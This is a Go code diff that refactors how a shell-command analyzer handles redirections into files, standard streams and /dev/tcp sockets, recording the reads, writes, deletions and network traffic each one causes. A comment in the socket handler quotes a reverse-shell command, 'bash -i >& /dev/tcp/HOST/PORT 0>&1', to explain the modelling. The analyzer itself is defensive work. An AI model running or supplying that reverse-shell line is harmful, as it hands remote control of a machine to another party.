@@ -195,61 +195,56 @@ func untabInner(s string) string {
 	return strings.Join(lines, "\n")
 }
 
+// redirecting is one redirection being resolved: what it says, and what it changes.
+type redirecting struct {
+	node *syntax.Redirect
+	out  command.Redirect
+	inv  *command.Invocation
+	red  *redirection
+}
+
+// input says whether the redirection opens something to read from.
+func (x *redirecting) input() bool {
+	return x.node.Op == syntax.RdrIn || x.node.Op == syntax.RdrInOut
+}
+
+// both says whether it leads standard error to where it leads standard output.
+func (x *redirecting) both() bool {
+	switch x.node.Op {
+	case syntax.RdrAll, syntax.AppAll:
+		return true
+	}
+	return false
+}
+
+func (x *redirecting) effect(kind tool.Kind, w command.Word, world *tool.World) {
+	x.inv.Effects = append(x.inv.Effects, x.inv.PathEffect(kind, w, world))
+}
+
 // redirect handles everything but here-documents and here-strings.
 func (r *reader) redirect(s *state, rd *syntax.Redirect, out command.Redirect, inv *command.Invocation, red *redirection) {
+	x := &redirecting{rd, out, inv, red}
 	w := out.Target
-	fd := out.Fd
 	if w.Taint&command.FromSecret != 0 {
 		inv.Effects = append(inv.Effects, dumped(w.Span)) // as the name of a file, or in a complaint
 	}
 	if w.Text == "!" && rd.Op != syntax.RdrIn {
 		r.gap("zsh uses the next word as the file of this redirection", out.Span)
 	}
-	switch rd.Op {
-	case syntax.DplIn, syntax.DplOut:
+	switch {
+	case rd.Op == syntax.DplIn || rd.Op == syntax.DplOut:
 		if r.duplicate(s, rd, out, inv, red) {
 			return
 		}
-	case syntax.RdrAll, syntax.AppAll:
+	case x.both():
 		r.expandedTwice(w)
 	}
 	if w.IsKnown() && harmless(w.Text) {
-		if rd.Op == syntax.RdrIn || rd.Op == syntax.RdrInOut {
-			d := command.Data{Reach: tool.Exact}
-			switch w.Text {
-			case "/dev/stdin", "/dev/fd/0":
-				d = s.stdin
-			case "/dev/null":
-			default:
-				d = r.descriptor(s, strings.TrimPrefix(w.Text, "/dev/fd/"), w.Text)
-			}
-			r.connect(s, red, inv, fd, d)
-			return
-		}
-		r.standard(rd, fd, w.Text, red)
+		r.toStandard(s, x)
 		return
 	}
 	if host, ok := socket(w); ok {
-		reach := tool.Exact
-		if host == "" {
-			reach = tool.Anywhere
-		}
-		inv.Effects = append(inv.Effects,
-			tool.Effect{Kind: tool.Fetch, Target: host, Reach: reach, Span: w.Span},
-			tool.Effect{Kind: tool.Send, Target: host, Reach: reach, Span: w.Span})
-		d := command.Data{Taint: command.FromNet}
-		if rd.Op == syntax.RdrIn || rd.Op == syntax.RdrInOut {
-			r.connect(s, red, inv, fd, d)
-			return
-		}
-		if fd == "" || fd == "1" {
-			fd, red.stdout = "1", discarded
-		}
-		// What is sent there can be answered: bash -i >& /dev/tcp/HOST/PORT 0>&1.
-		s.fds.open(fd, d)
-		if rd.Op != syntax.RdrOut && rd.Op != syntax.AppOut {
-			s.fds.open("2", d) // >& and &> are both streams
-		}
+		r.toSocket(s, x, host)
 		return
 	}
 	if less, ok := command.Emptied(w, r.world); ok {
@@ -257,47 +252,95 @@ func (r *reader) redirect(s *state, rd *syntax.Redirect, out command.Redirect, i
 		if rd.Op == syntax.RdrIn {
 			kind = tool.Read
 		}
-		inv.Effects = append(inv.Effects, inv.PathEffect(kind, less, r.world))
+		x.effect(kind, less, r.world)
 	}
 	switch rd.Op {
 	case syntax.RdrIn:
-		inv.Effects = append(inv.Effects, inv.PathEffect(tool.Read, w, r.world))
-		r.connect(s, red, inv, fd, r.content(s, w, inv.Dir))
+		x.effect(tool.Read, w, r.world)
+		r.connect(s, red, inv, out.Fd, r.content(s, w, inv.Dir))
 	case syntax.RdrInOut:
-		inv.Effects = append(inv.Effects, inv.PathEffect(tool.Read, w, r.world), inv.PathEffect(tool.Write, w, r.world))
-		r.connect(s, red, inv, fd, command.Data{Taint: command.FromFile})
+		x.effect(tool.Read, w, r.world)
+		x.effect(tool.Write, w, r.world)
+		r.connect(s, red, inv, out.Fd, command.Data{Taint: command.FromFile})
 	default:
-		kind := tool.Write
-		adds := rd.Op == syntax.AppOut || rd.Op == syntax.AppAll
-		if !adds && silent(inv) && fd != "2" {
-			kind = tool.Delete
-		}
-		e := inv.PathEffect(kind, w, r.world)
-		if kind == tool.Delete && !r.holdsSomething(e) {
-			e.Kind = tool.Write
-		}
-		inv.Effects = append(inv.Effects, e)
-		to := vagueFile(e)
-		if e.Reach == tool.Exact && !e.Pattern {
-			to = e.Target
-		}
-		if fd != "" && fd != "1" {
-			// Who writes what to it, and when, is not followed.
-			red.err.on = red.err.on && fd != "2"
-			r.writes(s, to, func(f *file) {
-				f.data = command.Data{Taint: f.data.Taint | command.FromScript}
-				f.authored, f.edited = f.authored || fd != "2" || !alone(inv), true
-			})
-			return
-		}
-		red.stdout, red.add, red.file = elsewhere, adds, to
-		if to == e.Target {
-			red.stdout = toFile
-		}
-		switch rd.Op {
-		case syntax.RdrAll, syntax.AppAll, syntax.DplOut:
-			red.err = red.copied()
-		}
+		r.toFile(s, x)
+	}
+}
+
+// toStandard redirects to or from a standard stream, another descriptor or nothing.
+func (r *reader) toStandard(s *state, x *redirecting) {
+	path := x.out.Target.Text
+	if !x.input() {
+		r.standard(x.node, x.out.Fd, path, x.red)
+		return
+	}
+	d := command.Data{Reach: tool.Exact}
+	switch path {
+	case "/dev/stdin", "/dev/fd/0":
+		d = s.stdin
+	case "/dev/null":
+	default:
+		d = r.descriptor(s, strings.TrimPrefix(path, "/dev/fd/"), path)
+	}
+	r.connect(s, x.red, x.inv, x.out.Fd, d)
+}
+
+// toSocket connects with a host, of which the name may not be known.
+func (r *reader) toSocket(s *state, x *redirecting, host string) {
+	reach, fd, span := tool.Exact, x.out.Fd, x.out.Target.Span
+	if host == "" {
+		reach = tool.Anywhere
+	}
+	x.inv.Effects = append(x.inv.Effects,
+		tool.Effect{Kind: tool.Fetch, Target: host, Reach: reach, Span: span},
+		tool.Effect{Kind: tool.Send, Target: host, Reach: reach, Span: span})
+	d := command.Data{Taint: command.FromNet}
+	if x.input() {
+		r.connect(s, x.red, x.inv, fd, d)
+		return
+	}
+	if fd == "" || fd == "1" {
+		fd, x.red.stdout = "1", discarded
+	}
+	// What is sent there can be answered: bash -i >& /dev/tcp/HOST/PORT 0>&1.
+	s.fds.open(fd, d)
+	if x.node.Op != syntax.RdrOut && x.node.Op != syntax.AppOut {
+		s.fds.open("2", d) // >& and &> are both streams
+	}
+}
+
+// toFile redirects what is printed to a file.
+func (r *reader) toFile(s *state, x *redirecting) {
+	op, fd := x.node.Op, x.out.Fd
+	kind := tool.Write
+	adds := op == syntax.AppOut || op == syntax.AppAll
+	if !adds && silent(x.inv) && fd != "2" {
+		kind = tool.Delete
+	}
+	e := x.inv.PathEffect(kind, x.out.Target, r.world)
+	if kind == tool.Delete && !r.holdsSomething(e) {
+		e.Kind = tool.Write
+	}
+	x.inv.Effects = append(x.inv.Effects, e)
+	to := vagueFile(e)
+	if e.Reach == tool.Exact && !e.Pattern {
+		to = e.Target
+	}
+	if fd != "" && fd != "1" {
+		// Who writes what to it, and when, is not followed.
+		x.red.err.on = x.red.err.on && fd != "2"
+		r.writes(s, to, func(f *file) {
+			f.data = command.Data{Taint: f.data.Taint | command.FromScript}
+			f.authored, f.edited = f.authored || fd != "2" || !alone(x.inv), true
+		})
+		return
+	}
+	x.red.stdout, x.red.add, x.red.file = elsewhere, adds, to
+	if to == e.Target {
+		x.red.stdout = toFile
+	}
+	if x.both() || op == syntax.DplOut {
+		x.red.err = x.red.copied()
 	}
 }
 
